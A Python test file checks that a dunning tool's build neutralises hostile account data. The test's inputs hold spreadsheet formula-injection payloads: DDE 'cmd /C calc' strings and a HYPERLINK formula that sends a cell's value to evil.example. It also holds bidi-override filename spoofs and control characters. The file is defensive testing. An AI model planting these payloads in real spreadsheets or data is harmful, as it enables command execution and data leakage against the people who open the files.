"""A build over hostile account data (issue 14 §3): no CSV cell of the output starts a
spreadsheet formula, and no output file carries a control or bidirectional-override
character from the accounts, however it is encoded (JSON escapes, MIME parts, HTML)."""

from __future__ import annotations

import csv
import email
import email.policy
import html
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
from click.testing import CliRunner

from dunning.cli import main

from .hostile_support import ROOT, inside

NAMES = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "【示例金融】\u202egnp.exe\u202c",
    "=1+1\x00\u2066x\u2069",
    "-2+3\u2028\x85\x07",
    "+1+1\t\r\nname\u200e\ufeff",
]
ADDRESSES = ["+1+1", '=HYPERLINK("http://evil.example/?"&B2,"x")', "@x\u202e\u061c", "-1\u2067 St\x1b[31m"]
PREFIXES = ["=", "+", "@", "-"]
FORMULA = re.compile(r"[=+\-@\t\r]")
# what a spreadsheet reads as a number only: kept as written (docs/security.md)
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?|\+[1-9][0-9]{6,14}")
UNSAFE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]"
)


def _hostile_id(account_id: str, index: int) -> str:
    if account_id == "US-0006":
        return '=HYPERLINK("http://evil.example/?"&B2,"x")'
    return PREFIXES[index % 4] + account_id


def _hostile_inputs(repo: Path) -> None:
    """examples/accounts.csv and history.csv with formula ids (history too: the visit step
    needs it), names, addresses, customer ids and an extra column full of hostile text."""
    with (ROOT / "examples" / "accounts.csv").open(encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    ids: dict[str, str] = {}
    for i, row in enumerate(rows):
        original = row[0]
        row[0] = ids.setdefault(original, _hostile_id(original, i))
        row[header.index("name")] = NAMES[i % len(NAMES)]
        row[header.index("address")] = ADDRESSES[i % len(ADDRESSES)]
        row[header.index("customer_id")] = "@C" + row[header.index("customer_id")]
        row[header.index("branch")] = "=cmd|' /C calc'!A0\u202e"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header, *rows])
    (repo / "accounts.csv").write_text(buffer.getvalue(), encoding="utf-8")
    with (ROOT / "examples" / "history.csv").open(encoding="utf-8", newline="") as fh:
        history_header, *events = list(csv.reader(fh))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(
        [history_header, *([ids.get(e[0], e[0]), *e[1:]] for e in events)]
    )
    (repo / "history.csv").write_text(buffer.getvalue(), encoding="utf-8")


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _texts(path: Path) -> Iterator[str]:
    """Every piece of text a reader of ``path`` sees, decoded."""
    data = path.read_bytes()
    if path.suffix in (".jsonl", ".json"):
        for line in data.splitlines():
            yield from _strings(orjson.loads(line)) if path.suffix == ".jsonl" else ()
        if path.suffix == ".json":
            yield from _strings(orjson.loads(data))
    elif path.suffix == ".eml":
        message = email.message_from_bytes(data, policy=email.policy.default)
        for name, value in message.items():
            yield f"{name}: {value}"
        for part in message.walk():
            if not part.is_multipart():
                content = part.get_content()
                yield content if isinstance(content, str) else ""
    else:
        text = data.decode("utf-8")
        yield text.replace("\r\n", "\n") if path.suffix == ".csv" else text
        if path.suffix == ".html":
            yield html.unescape(text)


def test_no_output_file_runs_formulas_or_carries_control_characters(example_copy: Path) -> None:
    _hostile_inputs(example_copy)
    args = ["build", "--accounts", "accounts.csv", "--history", "history.csv", "--as-of", "2026-11-28"]
    args += ["--horizon", "60", "--no-pdf", "--no-handbook", "--quiet"]
    with inside(example_copy):
        result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    assert result.stdout == "accounts_in 66 == planned 51 + excluded 8 + rejected 7\n"
    out = example_copy / "out"
    files = sorted(p for p in out.rglob("*") if p.is_file())
    csvs = [p for p in files if p.suffix == ".csv"]
    names = {p.relative_to(out).as_posix() for p in csvs}
    assert {"actions.csv", "rejects.csv", "messages/calls.csv", "messages/render-rejects.csv"} <= names
    assert "messages/visits/routes.csv" in names
    assert any(n.startswith("messages/letters/batch-") for n in names)  # the print batches' indexes
    assert any(n.startswith("messages/agency/") for n in names)
    formulas_seen = 0
    for path in csvs:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if FORMULA.match(cell):
                        assert PLAIN_NUMBER.fullmatch(cell), (path.name, cell)
                    formulas_seen += cell.startswith(("'=", "'+", "'@", "'-"))
    assert formulas_seen > 100  # the hostile values did reach the CSVs, neutralised
    for path in files:
        for text in _texts(path):
            found = UNSAFE.search(text)
            assert found is None, (path.relative_to(out).as_posix(), hex(ord(found.group())))
    sms = (out / "messages" / "sms.jsonl").read_text(encoding="utf-8")
    assert "【示例金融】gnp.exe" in sms  # the name is there, without its override
